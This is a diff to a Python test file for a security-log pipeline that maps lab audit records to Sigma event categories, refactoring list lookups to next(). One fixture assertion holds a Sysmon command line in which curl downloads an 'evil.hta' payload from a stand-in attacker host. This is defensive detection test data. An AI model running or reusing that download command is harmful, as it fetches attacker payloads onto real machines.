@@ -110,7 +110,7 @@ def test_dns_category_from_resolver_log(audit_records: list[Record], lab_ctx: Vi
 def test_inet_requests_as_proxy(audit_records: list[Record], lab_ctx: ViewContext) -> None:
     proxy = _cat(sigma_events(audit_records, lab_ctx), "proxy", None)
     assert len(proxy) == 7
-    arin = [p for p in proxy if p["cs-host"] == "whois.arin.net"][0]
+    arin = next(p for p in proxy if p["cs-host"] == "whois.arin.net")
     assert arin["c-uri"] == "https://whois.arin.net/rest/ip/198.51.100.130"
     assert arin["cs-method"] == "GET" and arin["sc-status"] == 200 and arin["c-useragent"].startswith("curl/")
     assert arin["src_ip"] == "198.51.100.250" and arin["dst_ip"] == "198.51.100.20"
@@ -179,7 +179,7 @@ def test_windows_evtx_categories() -> None:
         ("windows", "process_creation"),
         ("windows", "registry_set"),
     ]
-    curl = [e["event"] for e in events if str(e["event"].get("Image", "")).endswith("curl.exe")][0]
+    curl = next(e["event"] for e in events if str(e["event"].get("Image", "")).endswith("curl.exe"))
     assert curl["CommandLine"] == 'curl  --output benign.hta "https://12.34.56.78/hack/evil.hta"'
     assert curl["EventID"] == 1 and curl["Channel"] == "Microsoft-Windows-Sysmon/Operational"
 
